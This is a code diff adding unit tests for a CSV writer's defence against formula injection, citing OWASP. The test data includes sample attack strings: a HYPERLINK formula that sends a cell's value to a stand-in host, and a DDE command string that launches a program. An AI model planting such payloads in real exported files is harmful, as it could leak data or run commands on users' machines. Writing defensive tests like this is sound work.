@@ -40,3 +40,20 @@ describe('RFC 4180 CSV', () => {
     expect(() => parseRfc4180('a,b\r\n1,2')).toThrow(/CRLF/);
   });
 });
+
+describe('CSV formula injection (OWASP)', () => {
+  it('a text field starting with = + - @ tab or CR is written with a leading quote mark, quoted, and reads back with it', () => {
+    const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
+    for (const a of attacks) {
+      const field = csvField(a);
+      expect(field.startsWith(`"'`)).toBe(true);
+      expect(parseRfc4180(toCsv(['name'], [[a]]))[1]).toEqual([`'${a}`]);
+    }
+  });
+
+  it('numbers, negative ones included, and ordinary text are unchanged', () => {
+    expect(csvField(-1.5)).toBe('-1.5');
+    expect(csvField('Lingang')).toBe('Lingang');
+    expect(csvField('a=b')).toBe('a=b');
+  });
+});
